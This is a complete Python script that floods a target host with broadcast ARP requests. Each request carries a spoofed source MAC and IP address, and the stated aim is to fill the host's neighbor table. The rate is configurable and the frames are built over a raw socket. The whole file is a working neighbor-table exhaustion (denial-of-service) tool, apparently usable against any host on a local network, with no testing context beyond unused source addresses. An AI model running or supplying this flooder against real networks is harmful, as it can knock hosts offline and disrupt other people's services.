"""Fills the neighbor table of a host: ARP requests for its address, each from an address and a MAC of their own.

Usage: flood-arp.py INTERFACE TARGET FRAMES PER_SECOND SOURCES. The sources are the addresses from 10.77.1.0 on; nobody is
there. Prints "done" when all frames have left.
"""

import socket
import struct
import sys
import time

FIRST_SOURCE = 10 << 24 | 77 << 16 | 1 << 8


def request(number, target):
    """Who has the target? Tell this source (RFC 826)."""
    mac = b"\x02\x66" + number.to_bytes(4, "big")
    source = (FIRST_SOURCE + number).to_bytes(4, "big")
    question = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + source + bytes(6) + target
    return b"\xff" * 6 + mac + b"\x08\x06" + question


def main():
    interface, target = sys.argv[1], socket.inet_aton(sys.argv[2])
    frames, per_second, sources = map(int, sys.argv[3:6])
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    raw.bind((interface, 0))
    begin = time.monotonic()
    for number in range(frames):
        raw.send(request(number % sources, target))
        ahead = begin + (number + 1) / per_second - time.monotonic()
        if ahead > 0.005:
            time.sleep(ahead)
    print("done", flush=True)


main()
